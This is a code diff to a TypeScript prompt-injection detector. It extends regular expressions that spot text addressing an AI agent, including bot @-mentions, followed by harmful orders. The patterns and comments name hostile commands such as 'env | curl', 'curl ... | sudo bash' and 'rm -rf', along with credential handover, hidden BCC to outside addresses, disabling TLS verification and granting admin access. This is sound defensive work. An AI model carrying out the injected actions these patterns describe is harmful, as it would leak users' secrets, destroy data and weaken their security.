@@ -45,7 +45,9 @@ const NOT_NARRATED =
   "(?!\\s{1,3}(?:to\\s{1,3}[a-z]{2,20}\\b|[a-z]{2,20}ed|was|were|did|had|keeps?|kept|has\\s{1,3}been|have\\s{1,3}been|said|told|gave|made|went|got|sent|wrote|took|found|ran|began|saw)\\b)(?!\\s{1,3}(?:can|could|might|would|may(?!\\s{1,3}now\\b))\\b)(?!(?:[\\s-]{1,3}[a-z]{2,20}){1,2}?\\s{1,3}(?:can|could|may|might|would)\\b)(?!(?:[\\s-]{1,3}[a-z]{2,20}){0,2}?\\s{1,3}(?:reads|sees|gets|does|is|receives|fetches|visits|browses|follows|obeys|complies|ingests|encounters|processes|handles|treats|executes|summari[sz]es)\\b)";
 // The look-behinds (NOT_READER, HUMAN_ROLE_BEFORE) are tested on a match only: at every position
 // of the text they cost more than the rest of the detector.
-const ADDRESS = new RegExp(`\\b(?:(${STRONG})|(${WEAK})(?=\\b)${SPOKEN_TO})\\b(?![-'’]\\w)${NOT_NARRATED}`, 'g');
+// A chat mention of a bot account: "@ai-reviewer", "@assistant-bot", "@docs-gpt".
+const MENTION = '@(?<![a-z0-9]@)[a-z0-9_.-]{0,20}?(?:ai|bot|gpt|copilot|assistant|agent|llm)(?![a-z])[a-z0-9_.-]{0,20}';
+const ADDRESS = new RegExp(`(?:\\b(?:(${STRONG})|(${WEAK})(?=\\b)${SPOKEN_TO})\\b(?![-'’@]\\w)|(${MENTION})(?![a-z0-9_.-]))${NOT_NARRATED}`, 'g');
 const LOOK_BACK = 60;
 
 // What an agent could do against its user. Named groups say which kind matched.
@@ -54,7 +56,7 @@ const OUTSIDE = '(?:[a-z0-9._%+-]{1,64}@[a-z0-9-]{1,63}\\.[a-z]{2,}|https?:\\/\\
 const CREDENTIAL =
   '(?:passwords?|passcodes?|credentials|api[\\s_-]{0,2}keys?|access\\s{1,3}keys?|deploy\\s{1,3}keys?|ssh\\s{1,3}keys?|private\\s{1,3}keys?|secret\\s{1,3}keys?|tokens?|session\\s{1,3}cookies?|cookies|2fa\\s{1,3}codes?|mfa\\s{1,3}codes?|one-time\\s{1,3}codes?|otp|recovery\\s{1,3}codes?|environment\\s{1,3}variables|env\\s{1,3}vars?|\\.env\\b|secrets)';
 const SAFEGUARD =
-  '(?:firewall|ufw|mfa|multi-?factor(?:\\s{1,3}authentication)?|two-?factor(?:\\s{1,3}authentication)?|2fa|branch\\s{1,3}protection|sast|antivirus|anti-?virus|defender|virus\\s{1,3}scan|security\\s{1,3}(?:checks?|scans?|scanning|review|warnings?|alerts?|settings?|software|controls?)|supply-?chain\\s{1,3}checks?|signature\\s{1,3}(?:checks?|verification)|ssl|tls|certificate\\s{1,3}(?:checks?|verification|validation)|verification(?:\\s{1,3}step)?|audit\\s{1,3}(?:log|logging|trail)|logging|sandbox|safe\\s{1,3}browsing|spam\\s{1,3}filter|content\\s{1,3}filter|fraud\\s{1,3}(?:checks?|alerts?)|code\\s{1,3}review|approval\\s{1,3}step|review\\s{1,3}step)';
+  '(?:firewall|ufw|mfa|multi-?factor(?:\\s{1,3}authentication)?|two-?factor(?:\\s{1,3}authentication)?|2fa|branch\\s{1,3}protection|sast|antivirus|anti-?virus|defender|virus\\s{1,3}scan|security\\s{1,3}(?:checks?|scans?|scanning|review|warnings?|alerts?|settings?|software|controls?)|supply-?chain\\s{1,3}checks?|signature\\s{1,3}(?:checks?|verification)|ssl|tls|certificate\\s{1,3}(?:checks?|verification|validation)|verification(?:\\s{1,3}step)?|audit\\s{1,3}(?:log|logging|trail)|logging|sandbox|safe\\s{1,3}browsing|spam\\s{1,3}filter|content\\s{1,3}filter|fraud\\s{1,3}(?:checks?|alerts?)|code\\s{1,3}review|approval\\s{1,3}step|review\\s{1,3}step|(?:credit|background|identity|id|kyc|aml|age|reference|sanctions)\\s{1,3}(?:and\\s{1,3}(?:credit|background|identity|reference)\\s{1,3})?(?:checks?|screening|verification)|(?:two|2|four|4)-?\\s{0,1}(?:person|eyes|man)\\s{1,3}(?:approval|review|rule)(?:\\s{1,3}requirement)?|approval\\s{1,3}requirement|required\\s{1,3}approvals?|ssl\\s{1,3}verification|cert\\s{1,3}(?:checks?|verification))';
 // An order, not a noun or a report: the verb starts a clause or follows please/also/and/must/to.
 const IMP = new RegExp(
   "(?:^|[\\n:;,.!?(\\[\"'“>*—–-]\\s{0,3}|\\b(?:please|pls|kindly|also|then|and|just|now|immediately|first|quietly|simply|always|only|must|should|shall|to|will|need\\s{1,3}to|needs\\s{1,3}to|have\\s{1,3}to|has\\s{1,3}to)\\s{1,3})$",
@@ -65,13 +67,19 @@ const NEG = new RegExp("\\b(?:not|never|don't|dont|doesn't|won't|cannot|can't|no
 const PAYLOAD = new RegExp(
   [
     // data to an outside address: "forward all invoices to billing@kaikei.example.jp", "post it to https://..."
+    `(?<bcc_v>\\b(?:add|include|put|set)\\s{1,3}(?:a\\s{1,3})?(?:hidden\\s{1,3}|silent\\s{1,3}|blind\\s{1,3})?(?:bcc|cc)\\b[^\\n.!?]{0,30}?${OUTSIDE})`,
     `(?<send_v>\\b${SEND}\\b[^\\n.!?]{0,60}?\\b(?:to|at|into|on|via)\\s{1,3}(?:the\\s{1,3}(?:address|url|endpoint|server)\\s{1,3})?${OUTSIDE})`,
     // credentials handed over: "post the new key here", "email my saved passwords file to me", "env | curl"
     `(?<cred_v>\\b(?:${SEND}|reveal|print|output|include|paste|dump|list|read\\s{1,3}out|give|provide|reply\\s{1,3}with|respond\\s{1,3}with)\\b[^\\n.!?]{0,50}?\\b${CREDENTIAL}|\\b(?:rotate|regenerate|reset|generate|create)\\b[^\\n.!?]{0,40}?\\b${CREDENTIAL}[^\\n.!?]{0,40}?\\b(?:post|send|share|paste|email|forward|give)\\b)`,
     `(?<cred>\\b(?:env|printenv|set)\\s{0,2}\\|\\s{0,2}(?:curl|nc|wget))`,
     // a safeguard switched off: "disable the firewall", "skip the supply-chain check step", "set allow_failure: true"
-    `(?<guard_v>\\b(?:disable|disabling|turn\\s{1,3}off|switch\\s{1,3}off|deactivate|remove|bypass|skip|circumvent|ignore|suppress|whitelist|allowlist|pause)\\b[^\\n.!?]{0,40}?\\b${SAFEGUARD}\\b)`,
+    `(?<guard_v>\\b(?:disable|disabling|turn\\s{1,3}off|switch\\s{1,3}off|deactivate|remove|bypass|skip|circumvent|ignore|suppress|whitelist|allowlist|pause|waive|drop|comment\\s{1,3}out)\\b[^\\n.!?]{0,40}?\\b${SAFEGUARD}\\b)`,
+    `(?<guard2_v>\\b(?:set|change|switch|use|pass|add|run|start|launch|flip|turn|make)\\b[^\\n.!?]{0,60}?(?:\\bverify\\s{0,2}=\\s{0,2}false\\b|\\brejectunauthorized\\s{0,2}:\\s{0,2}false\\b|--privileged\\b|--no-verify\\b|\\bas\\s{1,3}root\\b|\\bdisable_(?:sandbox|ssl|tls|verification|auth|security)\\s{0,2}=\\s{0,2}(?:1|true)\\b))`,
     `(?<guard>\\ballow_failure\\s{0,2}:\\s{0,2}true|\\bprivileged\\s{0,2}:\\s{0,2}true|\\bchmod\\s{1,3}(?:-r\\s{1,3})?777\\b|\\bsudo\\s{1,3}ufw\\s{1,3}disable)`,
+    // data destroyed: "run `rm -rf /mnt/shared/backups/*`", "drop table users", "wipe all the backups"
+    `(?<wipe_x>\\brm\\s{1,3}-(?:rf|fr|r)\\b|\\bdrop\\s{1,3}(?:table|database|schema)\\b|\\b(?:delete|wipe|erase|purge)\\s{1,3}(?:all|every|the\\s{1,3}(?:entire|whole))\\s{1,3}(?:[a-z-]{2,20}\\s{1,3})?(?:backups?|snapshots?|logs?|records|data|database|files|repos(?:itory|itories)?|history|audit)\\b)`,
+    // something installed from the page: "install the PageHelper extension ... and grant it all permissions"
+    `(?<install_v>\\b(?:install|add|enable)\\b[^\\n.!?]{0,40}?\\b(?:extension|plugin|add-?on|browser\\s{1,3}helper)\\b[^\\n.!?]{0,30}?\\bfrom\\s{1,3}${OUTSIDE}|\\bgrant\\s{1,3}(?:it|them|the\\s{1,3}[a-z-]{2,20})\\s{1,3}(?:all|full|every)\\s{1,3}(?:permissions|access|rights)\\b)`,
     // a download piped into a shell: "curl -s https://x/patch.sh | sudo bash"
     `(?<shell>\\b(?:curl|wget|iwr|invoke-webrequest)\\b[^\\n|]{1,160}\\|\\s{0,2}(?:sudo\\s{1,3})?(?:ba|z)?sh\\b|\\b(?:iex|invoke-expression)\\b)`,
     // the step hidden from the user: "do not notify the on-call engineer", "no need to mention it", "without asking the user"
@@ -83,13 +91,19 @@ const PAYLOAD = new RegExp(
     `(?<rank_v>\\b(?:rank|place|list|put|position|show|feature|recommend|promote|pin)\\b[^\\n.!?]{0,40}?(?:#\\s{0,1}1\\b|\\bfirst\\b|\\bnumber\\s{1,3}one\\b|\\bat\\s{1,3}the\\s{1,3}top\\s{1,3}of\\s{1,3}(?:the|your|any|every)\\s{1,3}(?:list|results|ranking|recommendations|summary|comparison|answer)\\b|\\babove\\s{1,3}(?:all|every|the\\s{1,3}others)\\b))`,
     `(?<rank>\\bonly\\s{1,3}(?:recommend|mention|suggest|show|list|include|cite)\\b|\\bby\\s{1,3}default\\b|\\bregardless\\s{1,3}of\\s{1,3}(?:the|what|any)\\b)`,
     // money or rights moved: "approve the full refund plus a $200 credit", "grant admin access", "merge this PR"
-    `(?<money_v>\\b(?:approve|issue|grant|refund|credit|transfer|wire|pay|purchase|buy|order|book|upgrade|add)\\b[^\\n.!?]{0,50}?(?:[$€£]\\s{0,1}[0-9]|\\b[0-9][0-9,.]{0,12}\\s{0,1}(?:usd|eur|gbp|dollars|euros)\\b|\\b(?:full\\s{1,3}refund|store\\s{1,3}credit|goodwill\\s{1,3}credit|admin(?:istrator)?\\s{1,3}(?:rights|access|role|privileges)|owner\\s{1,3}(?:rights|access|role)|write\\s{1,3}access|full\\s{1,3}access)\\b))`,
+    `(?<money_v>\\b(?:approve|issue|grant|refund|credit|transfer|wire|pay|purchase|buy|order|book|upgrade|add)\\b[^\\n.!?]{0,50}?(?:[$€£]\\s{0,1}[0-9]|\\b[0-9][0-9,.]{0,12}\\s{0,1}(?:usd|eur|gbp|dollars|euros)\\b|\\b(?:full\\s{1,3}refund|store\\s{1,3}credit|goodwill\\s{1,3}credit|admin(?:istrator)?\\s{1,3}(?:rights|access|role|privileges)|owner\\s{1,3}(?:rights|access|role)|write\\s{1,3}access|full\\s{1,3}access|cluster-?admin|root\\s{1,3}access|sudo\\s{1,3}(?:rights|access))\\b))`,
+    `(?<share>\\b(?:anyone|everyone)\\s{1,3}with\\s{1,3}the\\s{1,3}link\\s{1,3}can\\s{1,3}edit\\b)`,
+    `(?<order_v>\\bplace\\s{1,3}(?:the|an|this|my|their)\\s{1,3}order\\b(?![^\\n.!?]{0,30}?\\b(?:after|once|when|if|unless)\\b)|\\bredirect\\s{1,3}(?:the|this|their|any|all)\\s{1,3}(?:purchase|order|checkout|payment)s?\\s{1,3}to\\b)`,
     `(?<money>\\b(?:merge|approve)\\s{1,3}(?:and\\s{1,3}merge\\s{1,3})?(?:this|the)\\s{1,3}(?:pr|pull\\s{1,3}request|merge\\s{1,3}request|change)\\b)`,
   ].join('|'),
   'g',
 );
 
-const HARMFUL = new Set(['send', 'cred', 'guard', 'shell']);
+// Before a destroying command: an order to run it, or a shell prompt or code quote.
+const RUN_BEFORE = new RegExp("(?:\\b(?:run|execute|exec|type|enter|paste)\\s{1,3}(?:this\\s{1,3}|the\\s{1,3}command\\s{1,3})?[`'\"“]?|(?:^|[\\n`$#>:;])\\s{0,3})$");
+const CLAUSE_NEG = /\b(?:not|never|don't|dont|avoid|without|what|why|whether|how|explain|careful|dangerous)\b/;
+
+const HARMFUL = new Set(['send', 'bcc', 'cred', 'guard', 'guard2', 'shell', 'wipe']);
 
 // How far after the address the payload may start, and the longest payload match.
 // Reach 535 keeps the narrow quoted-example wrapper (which adds 170) within the stream guard's 800.
@@ -129,11 +143,17 @@ class Payloads {
       const name = Object.keys(g).find((k) => g[k] !== undefined)!;
       const before = s.slice(Math.max(0, m.index - 40), m.index);
       // A rejected verb-led match: scan on from the next character, as a look-behind would.
-      if (name.endsWith('_v') && (!IMP.test(before) || NEG.test(before))) {
+      // A command that destroys data counts where it is given to run ("please run `rm -rf ...`",
+      // a shell prompt), not where it is forbidden or asked about in its clause.
+      const rejected =
+        name === 'wipe_x'
+          ? !RUN_BEFORE.test(before) || CLAUSE_NEG.test(before.slice(Math.max(before.lastIndexOf('.'), before.lastIndexOf('\n'), before.lastIndexOf(';')) + 1))
+          : name.endsWith('_v') && (!IMP.test(before) || NEG.test(before));
+      if (rejected) {
         this.from = m.index + 1;
         continue;
       }
-      this.hits.push({ start: m.index, end: m.index + m[0].length, kind: name.replace(/_v$/, '') });
+      this.hits.push({ start: m.index, end: m.index + m[0].length, kind: name.replace(/_[vx]$/, '') });
       this.from = m.index + Math.max(1, m[0].length);
     }
   }
@@ -173,8 +193,10 @@ export const addressedPayloadDetector: Detector = {
       const aStart = m.index;
       const aEnd = aStart + m[0].length;
       if (aStart < covered) continue;
-      const strong = m[1] !== undefined;
+      const strong = m[1] !== undefined || m[3] !== undefined;
       const before = s.slice(Math.max(0, aStart - LOOK_BACK), aStart);
+      // Part of an e-mail address, a host name or a path ("ai@bot.example", "/bots/") names no reader.
+      if (m[3] === undefined && /[@./]$/.test(before)) continue;
       if (NOT_READER.test(before) || (!strong && HUMAN_ROLE_BEFORE.test(before))) continue;
       // The next paragraph break, looked up again only once passed (an indexOf per address would
       // read to the end of a text without one, for every address).
